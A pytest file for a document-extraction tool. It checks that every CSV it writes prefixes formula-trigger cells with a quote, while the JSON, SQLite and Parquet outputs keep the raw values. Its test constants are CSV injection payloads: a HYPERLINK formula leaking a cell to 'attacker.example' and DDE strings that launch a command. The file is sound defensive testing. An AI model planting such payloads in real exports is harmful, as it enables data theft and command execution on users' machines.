"""CSV formula injection: a cell a spreadsheet would run as a formula is written with a leading '.

Every CSV the tool writes (edition tables, changes.csv, history.csv) is guarded the same way;
plan.json, changes.json, the SQLite store, Parquet and the API's frames keep the values as read.
"""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pytest
from helpers import SEED, run_cli

from extractor.api import load_tables
from extractor.writers.escape import csv_cell, csv_value
from extractor.writers.files import csv_text

EDITION = "u4ssc-action-plan-2024-2025"
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Open") platform to explore how ICTs'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0 focuses on resilience."
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_deck(folder: Path) -> Path:
    """The seed deck with formulas where a scope and two working-group titles begin."""
    text = SEED.read_text(encoding="utf-8")
    for old, new in [
        ("This Thematic Group provides a global platform to explore how ICTs", HYPERLINK),
        ("WG7 - Smart Destination Platforms", f"WG7 - {DDE}"),
        ("WG3 - AI-Driven KPIs Measurement", f"WG3 - {AT_SUM}"),
        ("This thematic group focuses on enhancing urban economic resilience.", MINUS),
    ]:
        assert old in text
        text = text.replace(old, new, 1)
    folder.mkdir(parents=True, exist_ok=True)
    deck = folder / "u4ssc-action-plan-2024-2025.md"
    deck.write_text(text, encoding="utf-8")
    return deck


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def every_cell(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.fixture(scope="module")
def extracted(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("injection")
    deck = hostile_deck(root / "decks")
    code, _, stderr = run_cli("extract", deck, "-o", root / "out", "--format",
                              "json,csv,sqlite,parquet")  # fmt: skip
    assert code == 0, stderr
    return root


def test_csv_text_prefixes_every_formula_trigger() -> None:
    rows = [{"a": "=1+1", "b": "+1", "c": "-1", "d": "@A1", "e": "\tx", "f": "\rx"},
            {"a": "1=1", "b": "plain", "c": "'=already quoted", "d": None, "e": ["=x", "y"],
             "f": "-"}]  # fmt: skip
    text = csv_text(("a", "b", "c", "d", "e", "f"), rows)
    first, second = list(csv.reader(text.splitlines(keepends=True)))[1:]
    # a carriage return is a control character: escaped, it no longer starts a formula
    assert first == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "\\x0dx"]
    assert second == ["1=1", "plain", "''=already quoted", "", "'=x; y", "'-"]
    assert [csv_value(c) for c in second] == ["1=1", "plain", "'=already quoted", "", "=x; y", "-"]


def test_csv_cell_and_csv_value_undo_each_other() -> None:
    for value in ["=A1", "''=A1", "'plain", "x", "", "-", "@", "'", "+'", "a=b"]:
        assert csv_value(csv_cell(value)) == value


def test_edition_csvs_guard_formulas(extracted: Path) -> None:
    folder = extracted / "out" / EDITION
    groups = {row["group_id"]: row for row in cells(folder / "thematic_groups.csv")}
    assert groups["city-platforms"]["scope"].startswith("'" + HYPERLINK)
    resilience = next(r for r in groups.values() if r["scope"].startswith("'-2+3"))
    assert resilience["scope"].startswith("'" + MINUS)
    titles = {row["working_group_id"]: row["title"] for row in cells(folder / "working_groups.csv")}
    assert titles["city-platforms/wg7"] == "'" + DDE
    assert "'" + AT_SUM in titles.values()
    for table in folder.glob("*.csv"):
        for cell in every_cell(table):
            assert not cell.startswith(TRIGGERS), (table.name, cell)


def test_json_sqlite_parquet_and_frames_keep_the_values(extracted: Path) -> None:
    out = extracted / "out"
    plan = json.loads((out / EDITION / "plan.json").read_text(encoding="utf-8"))
    groups = {g["id"]: g for g in plan["thematic_groups"]}
    assert groups["city-platforms"]["scope"].startswith(HYPERLINK)
    wg7 = next(w for w in groups["city-platforms"]["working_groups"] if w["number"] == 7)
    assert wg7["title"] == DDE
    with sqlite3.connect(out / "actionplans.sqlite") as conn:
        stored = conn.execute(
            "SELECT title FROM working_groups WHERE working_group_id = 'city-platforms/wg7'"
        ).fetchone()[0]
        scope = conn.execute(
            "SELECT scope FROM thematic_groups WHERE group_id = 'city-platforms'"
        ).fetchone()[0]
    assert stored == DDE and scope.startswith(HYPERLINK)
    import pandas as pd

    parquet = pd.read_parquet(out / EDITION / "working_groups.parquet")
    assert DDE in set(parquet["title"]) and AT_SUM in set(parquet["title"])
    frames = load_tables(out)
    assert DDE in set(frames["working_groups"]["title"])
    assert frames["thematic_groups"]["scope"].str.startswith("=HYPERLINK").any()


def test_changes_and_history_csvs_guard_formulas(extracted: Path) -> None:
    out, edition = extracted / "diff", extracted / "out" / EDITION
    code, _, _ = run_cli("diff", SEED, edition, "-o", out)
    assert code == 1
    changes = every_cell(out / "changes.csv")
    assert "'" + DDE in changes and "'" + AT_SUM in changes
    assert not [c for c in changes if c.startswith(TRIGGERS)]
    raw = json.loads((out / "changes.json").read_text(encoding="utf-8"))
    assert DDE in json.dumps(raw, ensure_ascii=False)
    history = extracted / "history"
    code, _, stderr = run_cli("history", edition, "-o", history)
    assert code == 0, stderr
    names = [row["name"] for row in cells(history / "history.csv")]
    assert "'" + DDE in names and "'" + AT_SUM in names
    assert not [c for c in every_cell(history / "history.csv") if c.startswith(TRIGGERS)]
    code, printed, _ = run_cli("history", edition)
    assert code == 0 and "'" + DDE in printed
